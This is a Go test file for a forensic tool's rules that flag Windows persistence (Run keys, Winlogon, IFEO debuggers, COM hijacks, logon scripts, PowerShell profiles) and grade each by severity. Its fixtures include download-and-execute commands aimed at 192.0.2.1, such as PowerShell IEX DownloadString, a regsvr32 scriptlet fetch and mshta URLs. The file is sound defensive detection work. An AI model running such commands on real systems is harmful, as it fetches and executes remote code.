package findings_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/findings"
	"github.com/artifactdump/artifactdump/artifacts/persistence"
)

func winlogon(mechanism, image string, more func(*persistence.Winlogon)) artifacts.Record {
	w := fill(persistence.Winlogon{Name: "Value", Value: image, Item: 1}, auto(mechanism, image, ""))
	if more != nil {
		more(&w)
	}
	return rec("winlogon", w)
}

func startupLink(name, image, args string) artifacts.Record {
	return of("u", rec("startupfolder", fill(persistence.StartupFile{
		Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\` + name, Kind: "shortcut",
	}, auto("Startup folder", image, args))))
}

// TestAutostartPlaces: P-01 names the place, asks nothing of what Windows itself
// writes, and leaves to other rules what they judge.
func TestAutostartPlaces(t *testing.T) {
	disabled := func(r persistence.RunKey) artifacts.Record { r.Disabled = true; return rec("runkeys", r) }
	entry := fill(persistence.RunKey{Name: "v", List: "Run"}, auto("Run", `C:\Users\Public\a.exe`, ""))
	checkLevels(t, "P-01", []verdict{
		{"in the shared folder", findings.High, records{rec("runkeys", entry)}},
		{"disabled", findings.Medium, records{disabled(entry)}},
		{"deleted", findings.Medium, records{deleted(rec("runkeys", entry))}},
		{"deleted, and a weak place besides", findings.Low, records{deleted(runKey(`C:\Users\u\AppData\Local\Temp\a.exe`, ""))}},
		{"in a temporary folder", findings.High, records{runKey(`C:\Users\u\AppData\Local\Temp\a.exe`, "")}},
		{"the library of a loader", findings.High, records{rec("runkeys", fill(persistence.RunKey{Name: "v"}, persistence.Entry{
			Mechanism: "Run", Image: `C:\Windows\System32\rundll32.exe`, Payload: `C:\Users\Public\a.dll`, Command: `rundll32 C:\Users\Public\a.dll,Start`,
		}))}},
		{"in the folder of Windows", silent, records{runKey(`C:\Windows\vendor.exe`, "")}},
		{"on a share", silent, records{runKey(`\\server\apps\a.exe`, "")}},
		{"in a profile, where its vendor installs", silent, records{runKey(`C:\Users\u\AppData\Local\Microsoft\Teams\Update.exe`, "--processStart Teams.exe")}},
		{"what Windows itself writes", silent, records{rec("credentialproviders", persistence.CredentialProvider{Hook: fill(persistence.Hook{Default: true}, auto("Credential provider", `C:\Users\Public\a.dll`, ""))})}},
		{"a service, which has a rule of its own", silent, records{service("x", `C:\Users\Public\a.exe`, nil)}},
	})
	checkSays(t, "P-01", records{of("mira", runKey(`C:\PerfLogs\a.exe`, ""))}, "Run Value of mira starts C:\\PerfLogs\\a.exe", "(L4)")
}

// TestAutostartCommands: P-02 wants a host or loader, and a command of a kind
// that intruders use.
func TestAutostartCommands(t *testing.T) {
	checkLevels(t, "P-02", []verdict{
		{"a download", findings.Critical, records{runKey(powershell, `-c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"`)}},
		{"a scriptlet", findings.Critical, records{runKey(`C:\Windows\System32\regsvr32.exe`, `/s /u /i:http://192.0.2.1/a.sct scrobj.dll`)}},
		{"a function by its number", findings.High, records{runKey(`C:\Windows\System32\rundll32.exe`, `C:\ProgramData\a.dll,#1`)}},
		{"a hidden window", findings.High, records{runKey(powershell, `-WindowStyle Hidden -File C:\Scripts\a.ps1`)}},
		{"the same, disabled", findings.Medium, records{rec("runkeys", fill(persistence.RunKey{Name: "v"}, persistence.Entry{
			Mechanism: "Run", Image: powershell, Command: powershell + ` -WindowStyle Hidden -File C:\Scripts\a.ps1`, Disabled: true,
		}))}},
		{"a script as administrators have it", silent, records{runKey(powershell, `-File C:\Scripts\logon.ps1`)}},
		{"an address, but of a program of its own", silent, records{runKey(`C:\Program Files\Vendor\agent.exe`, `--server https://vendor.example/`)}},
		{"a task, which has a rule of its own", silent, records{task(`\x`, powershell, `-w hidden -f a.ps1`, nil)}},
	})
}

// TestLogonSequence: P-03 knows the one value that Windows has.
func TestLogonSequence(t *testing.T) {
	second := func(w *persistence.Winlogon) { w.Item, w.Value = 2, `userinit.exe, C:\Program Files\A\a.exe` }
	ofUser := func(w *persistence.Winlogon) { w.Scope = "user" }
	home, explorer := `C:\Windows\System32\userinit.exe`, `C:\Windows\explorer.exe`
	checkLevels(t, "P-03", []verdict{
		{"Userinit at home", silent, records{winlogon("Winlogon Userinit", home, nil)}},
		{"Userinit without folder", silent, records{winlogon("Winlogon Userinit", `userinit.exe`, nil)}},
		{"Userinit elsewhere", findings.Critical, records{winlogon("Winlogon Userinit", `C:\Users\Public\userinit.exe`, nil)}},
		{"a second command", findings.Critical, records{winlogon("Winlogon Userinit", `C:\Program Files\A\a.exe`, second)}},
		{"the shell", silent, records{winlogon("Winlogon Shell", explorer, nil)}},
		{"another shell", findings.Critical, records{winlogon("Winlogon Shell", `C:\Kiosk\kiosk.exe`, nil)}},
		{"the shell, set for one user", findings.Critical, records{winlogon("Winlogon Shell", explorer, ofUser)}},
		{"the logon screen", silent, records{winlogon("Winlogon UIHost", `C:\Windows\System32\logonui.exe`, nil)}},
		{"another logon screen", findings.Critical, records{winlogon("Winlogon UIHost", `C:\Windows\System32\other.exe`, nil)}},
		{"a task manager of its own", findings.Critical, records{winlogon("Winlogon Taskman", `C:\Program Files\A\a.exe`, nil)}},
		{"deleted", findings.High, records{deleted(winlogon("Winlogon Shell", `C:\Kiosk\kiosk.exe`, nil))}},
		{"a notification package, which Windows ignores", silent, records{winlogon("Winlogon Notify", `C:\Windows\System32\a.dll`, nil)}},
	})
	checkSays(t, "P-03", records{winlogon("Winlogon Userinit", `C:\Program Files\A\a.exe`, second)}, "item 2 is")
}

// TestBootSequence: the other settings of P-03, whose default Windows writes
// itself.
func TestBootSequence(t *testing.T) {
	lsaHook := func(mechanism, image string) artifacts.Record {
		return rec("lsa", persistence.LSA{Hook: hook(mechanism, "Notification Packages", image, image)})
	}
	checkLevels(t, "P-03", []verdict{
		{"a library for every program that starts others", findings.Critical, records{rec("appcertdlls", persistence.AppCertDLL{Hook: hook("AppCertDLLs", "x", "", `C:\Windows\System32\x.dll`)})}},
		{"a library of the windows", findings.Critical, records{rec("windowsload", fill(persistence.WindowsLoad{Name: "AppInit_DLLs"}, auto("AppInit", `C:\Windows\System32\x.dll`, "")))}},
		{"icons, as Windows has it", silent, records{rec("windowsload", fill(persistence.WindowsLoad{Name: "IconServiceLib"}, auto("Icons", `IconCodecService.dll`, "")))}},
		{"icons, of others", findings.Critical, records{rec("windowsload", fill(persistence.WindowsLoad{Name: "IconServiceLib"}, auto("Icons", `evil.dll`, "")))}},
		{"at boot", findings.High, records{rec("sessionmanager", persistence.SessionManager{Hook: hook("BootExecute", "BootExecute", "evil", "")})}},
		{"at boot, the check of the disk", silent, records{rec("sessionmanager", persistence.SessionManager{Hook: func() persistence.Hook {
			h := hook("BootExecute", "BootExecute", "autocheck autochk *", "")
			h.Default = true
			return h
		}()})}},
		{"a password filter", findings.High, records{lsaHook("Notification package", `C:\Windows\System32\filter.dll`)}},
		{"the one of OpenSSH", silent, records{lsaHook("Notification package", `SshdPinAuthLsa.dll`)}},
		{"a network provider, which VPN programs have", silent, records{lsaHook("Network provider", `C:\Program Files\VPN\np.dll`)}},
		{"a helper of netsh", findings.High, records{rec("netsh", persistence.Netsh{Hook: hook("Netsh helper", "x", "", `C:\ProgramData\x\x.dll`)})}},
		{"a helper of netsh among those of Windows", silent, records{rec("netsh", persistence.Netsh{Hook: hook("Netsh helper", "x", "", `C:\Windows\System32\ifmon.dll`)})}},
		{"a port monitor", findings.High, records{rec("print", persistence.Print{Hook: hook("Print monitor", "Driver", "", `C:\ProgramData\x.dll`), Kind: "monitor"})}},
		{"a driver of a printer", silent, records{rec("print", persistence.Print{Hook: hook("Print driver", "Driver", "", `C:\ProgramData\x.dll`), Kind: "driver"})}},
	})
}

// TestDebuggers: P-04.
func TestDebuggers(t *testing.T) {
	debugger := func(target, mechanism, image string, accessibility bool) records {
		return records{rec("ifeo", persistence.IFEO{Hook: hook(mechanism, "Debugger", image, image), Target: target, Accessibility: accessibility})}
	}
	checkLevels(t, "P-04", []verdict{
		{"of the logon screen", findings.Critical, debugger("utilman.exe", "IFEO Debugger", prompt, true)},
		{"of any program", findings.High, debugger("notepad.exe", "IFEO Debugger", `C:\Program Files\A\a.exe`, false)},
		{"when it ends", findings.High, debugger("notepad.exe", "SilentProcessExit", `C:\Program Files\A\a.exe`, false)},
		{"Process Explorer for Task Manager", silent, debugger("taskmgr.exe", "IFEO Debugger", `C:\Tools\procexp64.exe`, false)},
		{"Process Explorer for another program", findings.High, debugger("notepad.exe", "IFEO Debugger", `C:\Tools\procexp64.exe`, false)},
		{"Visual Studio", silent, debugger("app.exe", "IFEO Debugger", `vsjitdebugger.exe`, false)},
		{"a flag by which nothing starts", silent, debugger("app.exe", "IFEO GlobalFlag", `0x200`, false)},
	})
}

// TestStartupFolder: P-05 and P-06.
func TestStartupFolder(t *testing.T) {
	moved := func(to string, more func(*persistence.ShellFolder)) records {
		f := persistence.ShellFolder{Name: "Startup", Resolved: to, Redirected: true}
		if more != nil {
			more(&f)
		}
		return records{of("u", rec("shellfolders", f))}
	}
	checkLevels(t, "P-05", []verdict{
		{"to another folder", findings.High, moved(`C:\ProgramData\s`, nil)},
		{"to a share, as policies do", findings.Low, moved(`\\server\profiles\u\Startup`, nil)},
		{"in a hive of a renamed user", silent, moved(`C:\Users\v\Startup`, func(f *persistence.ShellFolder) { f.Foreign = true })},
		{"not moved", silent, moved(`C:\Users\u\AppData`, func(f *persistence.ShellFolder) { f.Redirected = false })},
	})
	checkLevels(t, "P-06", []verdict{
		{"a shortcut to an odd place", findings.High, records{startupLink("a.lnk", `C:\PerfLogs\a.exe`, "")}},
		{"a shortcut to the prompt", findings.High, records{startupLink("a.lnk", prompt, `/c C:\Scripts\a.cmd`)}},
		{"a shortcut to a folder of its own", findings.Low, records{startupLink("a.lnk", `C:\Users\u\AppData\Local\Programs\A\a.exe`, "")}},
		{"a shortcut to an installed program", findings.Informational, records{startupLink("a.lnk", `C:\Program Files\A\a.exe`, "")}},
		{"a document", findings.Informational, records{of("u", rec("startupfolder", persistence.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\notes.txt`, Kind: "file"}))}},
	})
}

// TestLegacyAutostarts: P-07.
func TestLegacyAutostarts(t *testing.T) {
	list := func(name, image string) records {
		return records{rec("runkeys", fill(persistence.RunKey{Name: "v", List: name}, auto("Run", image, "")))}
	}
	a := `C:\Program Files\A\a.exe`
	checkLevels(t, "P-07", []verdict{
		{"the list of policies", findings.High, list(`Policies\Explorer\Run`, a)},
		{"of Windows 98", findings.Low, list("RunServices", a)},
		{"RunOnceEx", findings.Low, list(`RunOnceEx\0001`, a)},
		{"the usual list", silent, list("Run", a)},
		{"once", silent, list("RunOnce", a)},
		{"win.ini", findings.High, records{rec("windowsload", fill(persistence.WindowsLoad{Name: "Run"}, auto("Windows Run", a, "")))}},
		{"a notification package, off since Vista", findings.Informational, records{winlogon("Winlogon Notify", `C:\Windows\System32\a.dll`, func(w *persistence.Winlogon) { w.Inactive = "not read since Windows Vista" })}},
	})
}

// TestMissingFiles: P-08 argues from an absence, so that the volume must be
// whole, the path certain and the record current.
func TestMissingFiles(t *testing.T) {
	missing := func(more func(*persistence.RunKey)) artifacts.Record {
		r := fill(persistence.RunKey{Name: "v"}, persistence.Entry{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "no"})
		if more != nil {
			more(&r)
		}
		return rec("runkeys", r)
	}
	gone := func(s *persistence.Service) { s.FilePresent = "no" }
	checkLevels(t, "P-08", []verdict{
		{"a program of a user's list", findings.Medium, records{missing(nil)}},
		{"a service, as Windows leaves them", findings.Informational, records{service("x", `C:\Program Files\A\a.exe`, gone)}},
		{"a library", findings.Low, records{rec("netsh", persistence.Netsh{Hook: func() persistence.Hook {
			h := hook("Netsh helper", "x", "", `C:\Program Files\A\a.dll`)
			h.FilePresent = "no"
			return h
		}()})}},
		{"a path that was guessed", silent, records{missing(func(r *persistence.RunKey) { r.Guessed = true })}},
		{"not known", silent, records{missing(func(r *persistence.RunKey) { r.FilePresent = "unknown" })}},
		{"a deleted record", silent, records{deleted(missing(nil))}},
		{"an older copy of the hive", silent, records{in(artifacts.Backup, missing(nil))}},
	})
}

// TestFirstRunOfAutostart: P-09 and P-10 compare the list with the starts.
func TestFirstRunOfAutostart(t *testing.T) {
	a := runKey(`C:\Program Files\A\a.exe`, "")
	checkLevels(t, "P-09", []verdict{
		{"ten minutes after", findings.Informational, records{a, pf(`\Program Files\A\a.exe`, at(10))}},
		{"ten minutes before", findings.Informational, records{a, pf(`\Program Files\A\a.exe`, at(-10))}},
		{"eleven minutes after", silent, records{a, pf(`\Program Files\A\a.exe`, at(11))}},
		{"another program", silent, records{a, pf(`\Program Files\B\a.exe`, at(5))}},
		{"a program of Windows", silent, records{runKey(`C:\Windows\System32\a.exe`, ""), pf(`\Windows\System32\a.exe`, at(5))}},
	})
	ofUser := rec("runkeys", fill(persistence.RunKey{Name: "v"}, persistence.Entry{Mechanism: "Run", Scope: "user", Image: `C:\Program Files\A\a.exe`, Command: "a"}))
	checkLevels(t, "P-10", []verdict{
		{"for all users, and no start", findings.Informational, many(2, a)},
		{"for one user, who may not have come", silent, many(2, ofUser)},
		{"a library, which has no Prefetch file", silent, many(2, runKey(`C:\Program Files\A\a.dll`, ""))},
		{"no Prefetch files at all", silent, records{a}},
		{"it ran", silent, many(2, a, pf(`\Program Files\A\a.exe`, at(500)))},
	})
}

// TestUserClasses: P-13.
func TestUserClasses(t *testing.T) {
	class := func(kind, image string, shadows bool) records {
		return records{of("u", rec("comhijack", persistence.COMHijack{
			Hook: fill(persistence.Hook{Name: "x", Value: image}, persistence.Entry{Mechanism: "COM server", Scope: "user", Image: image, Command: image}), CLSID: "{1}", Kind: kind, Shadows: shadows,
		}))}
	}
	opens := func(scope, class, verb, image, args string) records {
		e := auto("File association", image, args)
		e.Scope = scope
		return records{of("u", rec("fileassociations", persistence.FileAssociation{Hook: fill(persistence.Hook{}, e), Class: class, Verb: verb}))}
	}
	checkLevels(t, "P-13", []verdict{
		{"a class of the machine, from an odd place", findings.High, class("InprocServer32", `C:\Users\Public\a.dll`, true)},
		{"a class of the machine, from a folder of its own", findings.Low, class("InprocServer32", `C:\Users\u\AppData\Local\Programs\A\a.dll`, true)},
		{"a class of the machine, from Program Files", silent, class("InprocServer32", `C:\Program Files\A\a.dll`, true)},
		{"a class of nobody else", silent, class("InprocServer32", `C:\Users\u\AppData\Local\Programs\A\a.dll`, false)},
		{"a scriptlet", findings.High, class("ScriptletURL", `http://192.0.2.1/a.sct`, false)},
		{"a type library from an address", findings.High, records{of("u", rec("typelibs", persistence.TypeLib{GUID: "{2}", Path: `script:http://192.0.2.1/a.sct`, Moniker: true}))}},
		{"a type library from a file", silent, records{of("u", rec("typelibs", persistence.TypeLib{GUID: "{2}", Path: `C:\Program Files\A\a.tlb`}))}},
		{"settings that elevate, with the prompt", findings.High, opens("user", "ms-settings", "open", prompt, "")},
		{"settings that elevate, with a program of its own", findings.High, opens("user", "mscfile", "open", `C:\Users\u\AppData\Local\A\a.exe`, "")},
		{"the same of the machine", silent, opens("machine", "mscfile", "open", `C:\Windows\System32\mmc.exe`, "%1")},
		{"a program before programs", findings.High, opens("machine", "exefile", "open", `C:\Program Files\A\a.exe`, `"%1" %*`)},
		{"documents by a program in an odd place", findings.Medium, opens("user", "txtfile", "open", `C:\PerfLogs\a.exe`, "%1")},
		{"documents by an editor", silent, opens("user", "txtfile", "open", `C:\Program Files\Editor\e.exe`, "%1")},
		{"scripts by the host with a download", findings.High, opens("user", "txtfile", "open", `C:\Windows\System32\mshta.exe`, "http://192.0.2.1/a.hta")},
	})
	if got := techniques(opens("user", "ms-settings", "open", prompt, ""), "P-13"); !slices.Contains(got, "T1548.002") {
		t.Errorf("a way around the prompt for consent has the techniques %v", got)
	}
}

// TestLogonScripts: P-14.
func TestLogonScripts(t *testing.T) {
	script := func(image string, more func(*persistence.LogonScript)) records {
		l := fill(persistence.LogonScript{On: "Logon", Script: image}, auto("Logon script", image, ""))
		if more != nil {
			more(&l)
		}
		return records{of("u", rec("logonscripts", l))}
	}
	autoRun := func(command string) records {
		return records{of("u", rec("commandprocessor", fill(persistence.CommandProcessor{}, persistence.Entry{Mechanism: "AutoRun", Scope: "user", Command: command})))}
	}
	profile := func(size int64, excerpt string) records {
		r := rec("autostartfiles", persistence.AutostartFile{Kind: "PowerShell profile", Size: size, Excerpt: excerpt})
		r.From.Path = `C:\Users\u\Documents\WindowsPowerShell\profile.ps1`
		return records{r}
	}
	checkLevels(t, "P-14", []verdict{
		{"a script of a user", findings.High, script(`C:\Scripts\a.cmd`, nil)},
		{"a script of a policy", findings.Medium, script(`C:\Scripts\a.cmd`, func(l *persistence.LogonScript) { l.Policy = "Default Domain Policy" })},
		{"a script of the domain", findings.Medium, script(`\\corp.example\netlogon\a.cmd`, nil)},
		{"a screen saver elsewhere", findings.High, records{of("u", rec("screensaver", fill(persistence.Screensaver{}, auto("Screen saver", `C:\Program Files\A\a.scr`, ""))))}},
		{"none", silent, records{of("u", rec("screensaver", persistence.Screensaver{}))}},
		{"a program at each prompt", findings.High, autoRun(`C:\Users\u\a.exe`)},
		{"a command of the prompt", findings.Low, autoRun(`title work`)},
		{"conda", silent, autoRun(`@CALL "C:\Users\u\miniconda3\condabin\conda_hook.bat"`)},
		{"clink", silent, autoRun(`"C:\Program Files\clink\clink.bat" inject --autorun`)},
		{"a profile that downloads", findings.High, profile(90, `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')`)},
		{"a profile with aliases", findings.Low, profile(90, `Set-Alias ll Get-ChildItem`)},
		{"an empty profile", silent, profile(0, "")},
	})
	if got := techniques(script(`C:\Scripts\a.cmd`, func(l *persistence.LogonScript) { l.Mechanism = "UserInitMprLogonScript" }), "P-14"); !slices.Contains(got, "T1037.001") {
		t.Errorf("a script by a variable has the techniques %v", got)
	}
	if got := strings.Join(techniques(profile(90, `Set-Alias ll Get-ChildItem`), "P-14"), " "); got != "T1546.013" {
		t.Errorf("a profile of PowerShell has the techniques %s", got)
	}
}
